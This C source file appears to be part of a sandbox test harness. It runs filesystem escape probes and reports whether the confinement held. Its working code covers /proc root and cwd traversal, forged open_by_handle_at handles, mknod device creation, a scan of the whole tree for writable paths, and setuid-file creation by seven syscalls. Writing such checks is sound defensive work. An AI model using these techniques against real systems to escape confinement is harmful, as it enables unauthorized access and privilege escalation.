/* Filesystem: read or write what was not given, by name, by link, by handle, by device. */
#include "attack.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <unistd.h>

static bool secret_at(const char *path, const char *needle) {
  int opened = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
  if (opened < 0) return false;
  bool found = file_contains(opened, needle);
  close(opened);
  return found;
}

/* read PATH NEEDLE */
static int read_file(int count, char **arguments) {
  (void)count;
  int opened = open(arguments[0], O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
  if (opened < 0) return held("%s", strerror(errno));
  if (file_contains(opened, arguments[1])) return broken("%s was read", arguments[0]);
  return held("another file has that name");
}

/* climb START PATH NEEDLE: PATH as seen from thirty-two parents above START. */
static int climb(int count, char **arguments) {
  (void)count;
  if (chdir(arguments[0]) < 0) return unable("%s: %s", arguments[0], strerror(errno));
  for (int step = 0; step < 32; step++) {
    if (secret_at(arguments[1] + 1, arguments[2])) return broken("%s was read %d directories above %s", arguments[1], step, arguments[0]);
    if (chdir("..") < 0) return held("%s", strerror(errno));
  }
  return held("the way up ends at the sandbox's own root");
}

/* read-through-proc PATH NEEDLE: by the root, the directory and the open directories of every process. */
static int read_through_proc(int count, char **arguments) {
  (void)count;
  const char *doors[] = {"root", "cwd", "cwd/../../../../../../../..", "fd/0", "fd/1", "fd/2", "fd/3", "fd/4", "fd/5", "fd/6", "task/1/root"};
  DIR *proc = opendir("/proc");
  if (proc == NULL) return unable("/proc: %s", strerror(errno));
  int tried = 0;
  for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
    if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
    for (size_t door = 0; door < sizeof doors / sizeof *doors; door++) {
      char path[PATH_MAX];
      if (snprintf(path, sizeof path, "/proc/%s/%s%s", entry->d_name, doors[door], arguments[0]) >= (int)sizeof path) continue;
      if (secret_at(path, arguments[1])) return broken("%s was read", path);
      tried++;
    }
  }
  closedir(proc);
  return tried > 0 ? held("%d doors lead nowhere", tried) : unable("/proc shows no process, not even this one");
}

/* plant-symlink TARGET LINK: always possible; what follows it is the attack. */
static int plant_symlink(int count, char **arguments) {
  (void)count;
  if (symlink(arguments[0], arguments[1]) < 0) return unable("%s: %s", arguments[1], strerror(errno));
  return held("planted");
}

/* hard-link FROM TO */
static int hard_link(int count, char **arguments) {
  (void)count;
  if (link(arguments[0], arguments[1]) == 0) return broken("%s is now also %s", arguments[0], arguments[1]);
  int reason = errno;
  char by_descriptor[64];
  int opened = open(arguments[0], O_PATH | O_CLOEXEC);
  if (opened < 0) return unable("%s: %s", arguments[0], strerror(errno));
  snprintf(by_descriptor, sizeof by_descriptor, "/proc/self/fd/%d", opened);
  if (linkat(AT_FDCWD, by_descriptor, AT_FDCWD, arguments[1], AT_SYMLINK_FOLLOW) == 0) return broken("linked by descriptor");
  return held("%s", strerror(reason));
}

/* open-by-handle DIRECTORY: asks for inode 2, the root of most disk file systems, by a forged handle. */
static int open_by_handle(int count, char **arguments) {
  (void)count;
  struct {
    struct file_handle handle;
    unsigned char bytes[MAX_HANDLE_SZ];
  } forged;
  memset(&forged, 0, sizeof forged);
  forged.handle.handle_bytes = MAX_HANDLE_SZ;
  int mount_id = 0;
  if (name_to_handle_at(AT_FDCWD, arguments[0], &forged.handle, &mount_id, 0) < 0) {
    forged.handle.handle_bytes = 8;
    forged.handle.handle_type = 1;
  }
  int directory = open(arguments[0], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (directory < 0) return unable("%s: %s", arguments[0], strerror(errno));
  int honest = open_by_handle_at(directory, &forged.handle, O_RDONLY);
  if (honest >= 0) return broken("a file was opened by its handle");
  int reason = errno;
  unsigned char root_inode[8] = {2, 0, 0, 0, 0, 0, 0, 0};
  memcpy(forged.handle.f_handle, root_inode, sizeof root_inode);
  if (open_by_handle_at(directory, &forged.handle, O_RDONLY) >= 0) return broken("inode 2 was opened by a forged handle");
  errno = reason;
  return expect_refusal("open_by_handle_at", -1);
}

/* make-device DIRECTORY */
static int make_device(int count, char **arguments) {
  (void)count;
  const struct {
    mode_t mode;
    unsigned int major_number, minor_number;
  } nodes[] = {{S_IFBLK, 8, 0}, {S_IFBLK, 254, 0}, {S_IFBLK, 259, 0}, {S_IFCHR, 1, 1}, {S_IFCHR, 10, 200}};
  char path[PATH_MAX];
  snprintf(path, sizeof path, "%s/node", arguments[0]);
  for (size_t index = 0; index < sizeof nodes / sizeof *nodes; index++) {
    if (mknod(path, nodes[index].mode | 0666, makedev(nodes[index].major_number, nodes[index].minor_number)) == 0) {
      unlink(path);
      return broken("device %u:%u was made", nodes[index].major_number, nodes[index].minor_number);
    }
    if (!is_refused(-1)) return unable("mknod: %s", strerror(errno));
  }
  return held("%s", strerror(errno));
}

static char finding[PATH_MAX];
static int visited;

static int judge_device(const char *path, const struct stat *status, int kind, struct FTW *place) {
  static const char *const harmless[] = {"/dev/null", "/dev/zero", "/dev/full", "/dev/random", "/dev/urandom", "/dev/tty", "/dev/ptmx", "/dev/console"};
  (void)kind, (void)place;
  if (!S_ISBLK(status->st_mode) && !S_ISCHR(status->st_mode)) return FTW_CONTINUE;
  visited++;
  if (strncmp(path, "/dev/pts/", 9) == 0) return FTW_CONTINUE;
  for (size_t index = 0; index < sizeof harmless / sizeof *harmless; index++) {
    if (strcmp(path, harmless[index]) == 0) return FTW_CONTINUE;
  }
  int opened = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
  if (opened < 0) return FTW_CONTINUE;
  close(opened);
  snprintf(finding, sizeof finding, "%s", path);
  return FTW_STOP;
}

static int open_devices(int count, char **arguments) {
  (void)count, (void)arguments;
  nftw("/dev", judge_device, 32, FTW_PHYS | FTW_ACTIONRETVAL);
  if (finding[0] != '\0') return broken("%s was opened", finding);
  return visited > 0 ? held("%d nodes, none of them hardware", visited) : unable("/dev is empty");
}

static char **allowed_paths;
static int allowed_count;

static int judge_writable(const char *path, const struct stat *status, int kind, struct FTW *place) {
  (void)place;
  if (strcmp(path, "/proc") == 0 || strcmp(path, "/sys") == 0) return FTW_SKIP_SUBTREE;
  for (int index = 0; index < allowed_count; index++) {
    if (strcmp(path, allowed_paths[index]) == 0) return FTW_SKIP_SUBTREE;
  }
  visited++;
  if (kind == FTW_DNR || kind == FTW_NS || S_ISLNK(status->st_mode)) return FTW_CONTINUE;
  if (!S_ISDIR(status->st_mode) && !S_ISREG(status->st_mode)) return FTW_CONTINUE;
  if (faccessat(AT_FDCWD, path, W_OK, AT_EACCESS) < 0) return FTW_CONTINUE;
  /* Permission bits promise what some file systems (devpts) never keep: only a file that was made counts. */
  if (S_ISDIR(status->st_mode)) {
    char made[PATH_MAX + 16];
    snprintf(made, sizeof made, "%s/made-inside", path);
    if (open(made, O_CREAT | O_WRONLY, 0600) < 0) return FTW_CONTINUE;
  }
  snprintf(finding, sizeof finding, "%s", path);
  return FTW_STOP;
}

/* write-anywhere-but ALLOWED…: walks everything and stops at the first directory or file that may be written. */
static int write_anywhere_but(int count, char **arguments) {
  allowed_paths = arguments;
  allowed_count = count;
  nftw("/", judge_writable, 64, FTW_PHYS | FTW_ACTIONRETVAL);
  if (finding[0] != '\0') return broken("%s can be written", finding);
  return visited > 20 ? held("%d entries, none of them writable", visited) : unable("only %d entries were seen", visited);
}

/* change-read-only DIRECTORY FILE: DIRECTORY and FILE are ours and mode 0777, so only the mount can stop us. */
static int change_read_only(int count, char **arguments) {
  (void)count;
  char made[PATH_MAX];
  snprintf(made, sizeof made, "%s/made", arguments[0]);
  const char *file = arguments[1];
  const struct {
    const char *what;
    long result;
    int reason;
  } attempts[] = {
#define ATTEMPT(what, call) {what, (errno = 0, (long)(call)), errno}
      ATTEMPT("creating a file", open(made, O_CREAT | O_WRONLY, 0600)),
      ATTEMPT("making a directory", mkdir(made, 0700)),
      ATTEMPT("opening to write", open(file, O_WRONLY)),
      ATTEMPT("truncating", truncate(file, 0)),
      ATTEMPT("renaming", rename(file, made)),
      ATTEMPT("removing", unlink(file)),
      ATTEMPT("changing the mode", chmod(file, 0600)),
      ATTEMPT("changing the times", utimensat(AT_FDCWD, file, NULL, 0)),
      ATTEMPT("setting an attribute", setxattr(file, "user.attack", "x", 1, 0)),
  };
  for (size_t index = 0; index < sizeof attempts / sizeof *attempts; index++) {
    if (attempts[index].result >= 0) return broken("%s worked", attempts[index].what);
    if (attempts[index].reason != EROFS) return broken("%s failed only with %s", attempts[index].what, strerror(attempts[index].reason));
  }
  return held("read-only for everything");
}

/* show PATH: its first bytes, for proofs that read them on the host. */
static int show(int count, char **arguments) {
  (void)count;
  char content[8192];
  int opened = open(arguments[0], O_RDONLY | O_CLOEXEC);
  if (opened < 0) return held("%s", strerror(errno));
  ssize_t size = read(opened, content, sizeof content);
  if (size < 0) return held("%s", strerror(errno));
  fwrite(content, 1, (size_t)size, stdout);
  return EXIT_HELD;
}

static const char *set_id_path;
static long set_id_chmod(void) { return syscall(SYS_fchmodat, AT_FDCWD, set_id_path, 06755); }
static long set_id_fchmodat2(void) { return syscall(452, AT_FDCWD, set_id_path, 04755, 0); }
static long set_id_fchmod(void) {
  int file = open(set_id_path, O_RDONLY | O_CLOEXEC);
  return syscall(SYS_fchmod, file, 02755);
}
static long set_id_create(void) {
  unlink(set_id_path);
  return syscall(SYS_openat, AT_FDCWD, set_id_path, O_CREAT | O_EXCL | O_WRONLY, 06755);
}
static long set_id_openat2(void) {
  const unsigned long long how[] = {O_CREAT | O_EXCL | O_WRONLY, 06755, 0};
  unlink(set_id_path);
  return syscall(437, AT_FDCWD, set_id_path, how, sizeof how);
}
static long set_id_mknod(void) {
  unlink(set_id_path);
  return syscall(SYS_mknodat, AT_FDCWD, set_id_path, S_IFREG | 06755, 0);
}
static long set_id_tmpfile(void) {
  char link[64], directory[PATH_MAX];
  snprintf(directory, sizeof directory, "%s", set_id_path);
  *strrchr(directory, '/') = '\0';
  unlink(set_id_path);
  long file = syscall(SYS_openat, AT_FDCWD, directory, O_TMPFILE | O_WRONLY, 06755);
  if (file < 0) return file;
  snprintf(link, sizeof link, "/proc/self/fd/%ld", file);
  return linkat(AT_FDCWD, link, AT_FDCWD, set_id_path, AT_SYMLINK_FOLLOW);
}

/* make-set-id PATH: by every call that sets a mode. */
static int make_set_id(int count, char **arguments) {
  (void)count;
  const struct {
    const char *name;
    long (*attempt)(void);
  } ways[] = {{"fchmodat", set_id_chmod},   {"fchmodat2", set_id_fchmodat2}, {"fchmod", set_id_fchmod},   {"openat", set_id_create},
              {"openat2", set_id_openat2}, {"mknodat", set_id_mknod},       {"O_TMPFILE", set_id_tmpfile}};
  set_id_path = arguments[0];
  for (size_t i = 0; i < sizeof ways / sizeof *ways; i++) {
    struct stat found;
    int file = open(set_id_path, O_CREAT | O_WRONLY | O_CLOEXEC, 0755);
    if (file < 0) return unable("%s: %s", set_id_path, strerror(errno));
    close(file);
    long result = ways[i].attempt();
    if (stat(set_id_path, &found) == 0 && (found.st_mode & (S_ISUID | S_ISGID))) return broken("%s made a file of mode %o", ways[i].name, found.st_mode);
    if (result >= 0) return unable("%s had no effect", ways[i].name);
  }
  return held("no call makes one");
}

const struct attack FILESYSTEM_ATTACKS[] = {
    {"make-set-id", make_set_id, 1},
    {"read", read_file, 2},
    {"climb", climb, 3},
    {"read-through-proc", read_through_proc, 2},
    {"plant-symlink", plant_symlink, 2},
    {"hard-link", hard_link, 2},
    {"open-by-handle", open_by_handle, 1},
    {"make-device", make_device, 1},
    {"open-devices", open_devices, 0},
    {"write-anywhere-but", write_anywhere_but, 0},
    {"change-read-only", change_read_only, 2},
    {"show", show, 1},
    {NULL, NULL, 0},
};
